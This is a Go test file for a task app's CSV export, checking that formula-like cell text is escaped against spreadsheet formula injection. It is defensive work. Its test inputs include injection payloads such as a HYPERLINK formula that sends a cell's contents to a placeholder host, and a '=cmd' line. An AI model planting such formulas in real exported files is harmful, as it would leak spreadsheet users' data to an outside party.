package exchange

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/taskwire/taskwire/pkg/events"
	"github.com/taskwire/taskwire/services/task-api/internal/domain"
)

// formulaTexts has formulas, and texts that look like formulas.
var formulaTexts = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1)", "＝1", "＋1", "－1", "＠x", "'=1", "''=1", "'", "''", "'tis", "''tis", "'+", "=", "-- \"q\", x",
	"a=1", " =1", "1-1", "",
}

func TestCSVHasNoFormulasAndLosesNoText(t *testing.T) {
	descriptions := append([]string{"\t=1", "\n=1", "'\t"}, formulaTexts...)
	for i, description := range descriptions {
		title := strings.TrimSpace(formulaTexts[i%len(formulaTexts)])
		if title == "" {
			title = "x"
		}
		var file bytes.Buffer
		w, err := NewWriter(CSV, &file)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(domain.Task{TaskData: events.TaskData{Title: title, Description: description, Tags: []string{"=tag"}, Priority: events.PriorityMedium, Status: events.StatusPending}}); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(bytes.NewReader(file.Bytes())).ReadAll()
		if err != nil || len(records) != 2 {
			t.Fatalf("%q: got %d records, %v", description, len(records), err)
		}
		for _, cell := range records[1] {
			if strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 {
				t.Errorf("title %q, description %q: the cell %q is a formula in a spreadsheet", title, description, cell)
			}
		}
		r, err := NewReader(CSV, bytes.NewReader(file.Bytes()), options)
		if err != nil {
			t.Fatal(err)
		}
		item, err := r.Next()
		if err != nil {
			t.Fatalf("%q: %v", description, err)
		}
		if got, want := titleAndDescription(t, item), [2]string{title, description}; got != want {
			t.Errorf("after a round trip: got %q, want %q", got, want)
		}
	}
}

func TestFormulasAreEscapedWhereACellCanBegin(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{"\r=1", "'\r'=1"}, {"\r", "'\r"}, {"'\r", "''\r"}, {"\t@x", "'\t'@x"},
		{"a;=1", "a;'=1"}, {"a;;-1", "a;;'-1"}, {"a;\"=1\"", "a;'\"=1\""}, {"a;'=1", "a;''=1"}, {"a;\"'=1", "a;'\"'=1"},
		{"a\n=1", "a\n'=1"}, {"- one\n- two", "'- one\n'- two"}, {"a\t+1", "a\t'+1"}, {"a|@1", "a|'@1"}, {"\"=1\"", "'\"=1\""},
		{"a; =1", "a; =1"}, {"a;b=1", "a;b=1"}, {"a,=1", "a,=1"}, {"a\n\nb", "a\n\nb"}, {"'tis", "'tis"},
	} {
		if got := escapeFormula(tc.text); got != tc.want || unescapeFormula(got) != tc.text {
			t.Errorf("escapeFormula(%q): got %q, and back %q; want %q", tc.text, got, unescapeFormula(got), tc.want)
		}
	}
}

// TestNoFormulaAppearsWithAnotherSeparator opens an export as a spreadsheet does whose list separator is not the comma.
func TestNoFormulaAppearsWithAnotherSeparator(t *testing.T) {
	texts := []string{"x;=1", "x;\"=1\"", "x\n=cmd", "x\n\"=1", "x\t=1", ";;;=1", "\";=1", "x\";\"=1;\"", "x;'=1", "x|=1", "\"\n\"+1"}
	var file bytes.Buffer
	w, err := NewWriter(CSV, &file)
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range texts {
		title := strings.NewReplacer("\n", " ", "\t", " ").Replace(text)
		if err := w.Write(domain.Task{TaskData: events.TaskData{Title: title, Description: text, Tags: []string{"a;=1"}, Priority: events.PriorityMedium, Status: events.StatusPending}}); err != nil {
			t.Fatal(err)
		}
	}
	for _, separator := range []string{";", "\t", "|"} {
		for line := range strings.Lines(file.String()) {
			for cell := range strings.SplitSeq(line, separator) {
				if strings.IndexAny(strings.TrimLeft(cell, `"`), "=+-@＝＋－＠") == 0 {
					t.Errorf("separator %q: the cell %q of the line %q is a formula", separator, cell, line)
				}
			}
		}
	}
}

// TestApostropheOfOtherProgramsIsKept checks that only Taskwire's own files are unescaped.
func TestApostropheOfOtherProgramsIsKept(t *testing.T) {
	r, err := NewReader(CSV, strings.NewReader("TYPE,CONTENT,DESCRIPTION\ntask,'=x,'-y\n"), options)
	if err != nil {
		t.Fatal(err)
	}
	item, err := r.Next()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := titleAndDescription(t, item), [2]string{"'=x", "'-y"}; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func titleAndDescription(t *testing.T, item Item) (out [2]string) {
	t.Helper()
	for i, name := range []string{"title", "description"} {
		if err := json.Unmarshal(item.Fields[name], &out[i]); err != nil {
			t.Fatalf("%s: %v in %s", name, err, item.Fields[name])
		}
	}
	return out
}

func FuzzEscapeFormula(f *testing.F) {
	for _, text := range formulaTexts {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := escapeFormula(text)
		if unescapeFormula(got) != text || strings.IndexAny(got, formulas+blanks) == 0 {
			t.Errorf("escapeFormula(%q): got %q, and back %q", text, got, unescapeFormula(got))
		}
	})
}
